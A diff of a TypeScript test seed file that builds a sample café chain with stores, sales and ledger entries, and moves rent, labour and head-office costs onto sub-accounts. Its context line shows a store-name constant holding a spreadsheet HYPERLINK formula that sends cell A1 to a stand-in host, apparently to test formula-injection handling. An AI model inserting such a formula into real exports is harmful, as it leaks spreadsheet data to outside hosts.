@@ -8,7 +8,8 @@ export const FORMULA_STORE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"�
  * A small chain for report tests: the café stores 0001 (120 m², brand Bean) and 0002 (80 m²,
  * brand Bean) in region EAST, and 0003 in region NORTH with a name that looks like a formula and
  * no area. Sales in January and February 2024 with refunds, waste, labour hours and footfall for
- * some stores only, and manual ledger entries for rent, labour and head-office costs.
+ * some stores only, and manual ledger entries for rent and labour (on the seeded sub-accounts
+ * 5601.02 and 5601.01) and head-office costs.
  */
 export async function seedChain(boh: BohClient): Promise<void> {
   await boh.regions.create({ code: 'EAST', name: '华东区' });
@@ -21,10 +22,6 @@ export async function seedChain(boh: BohClient): Promise<void> {
     await receiveStock(boh, store, '2023-12-20T02:00:00Z');
     await receiveStock(boh, store, '2024-01-15T02:00:00Z');
   }
-
-  // Sub-accounts for labour and rent, made before anything is posted to their parents.
-  await boh.ledger.accounts.create({ code: '5601.01', name_zh: '销售费用-职工薪酬', name_en: 'Selling expenses - payroll' });
-  await boh.ledger.accounts.create({ code: '5601.02', name_zh: '销售费用-租赁费', name_en: 'Selling expenses - rent' });
 
   const latte = (quantity: number) => ({ menu_item_code: 'LATTE', quantity, unit_price_fen: 3200 });
   const vanilla = (quantity: number) => ({ menu_item_code: 'VANILLA', quantity, unit_price_fen: 3600 });
@@ -48,7 +45,7 @@ export async function seedChain(boh: BohClient): Promise<void> {
 
   await boh.ledger.entries.create({ entry_date: '2024-01-31', store_code: '0001', memo: '1月房租', lines: [{ account_code: '5601.02', debit_fen: 1_000_000 }, { account_code: '1002', credit_fen: 1_000_000, store_code: null }] });
   await boh.ledger.entries.create({ entry_date: '2024-01-31', store_code: '0002', memo: '1月工资', lines: [{ account_code: '5601.01', debit_fen: 500_000 }, { account_code: '2211', credit_fen: 500_000 }] });
-  await boh.ledger.entries.create({ entry_date: '2024-01-31', memo: '总部办公费', lines: [{ account_code: '5602', debit_fen: 30_000 }, { account_code: '1002', credit_fen: 30_000 }] });
+  await boh.ledger.entries.create({ entry_date: '2024-01-31', memo: '总部办公费', lines: [{ account_code: '5602.99', debit_fen: 30_000 }, { account_code: '1002', credit_fen: 30_000 }] });
 
   await boh.reports.recordLabourHours([
     { store_code: '0001', business_date: '2024-01-05', role: 'barista', hours: 16, cost_fen: 48_000 },
